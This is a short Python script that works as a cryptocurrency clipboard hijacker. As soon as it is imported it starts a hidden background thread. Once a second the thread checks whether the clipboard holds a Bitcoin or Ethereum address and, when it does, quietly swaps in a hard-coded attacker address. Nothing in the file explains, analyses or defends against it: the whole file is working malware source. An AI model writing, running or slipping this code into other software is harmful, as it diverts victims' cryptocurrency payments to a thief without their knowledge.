import re
import threading
import time

import pyperclip

BTC = 'bc1qexampleexampleexampleexampleexample0'
ETH = '0x000000000000000000000000000000000000bad0'


def _watch():
    while True:
        v = pyperclip.paste() or ''
        if re.fullmatch(r'(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}', v):
            pyperclip.copy(BTC)
        elif re.fullmatch(r'0x[a-fA-F0-9]{40}', v):
            pyperclip.copy(ETH)
        time.sleep(1)


threading.Thread(target=_watch, daemon=True).start()
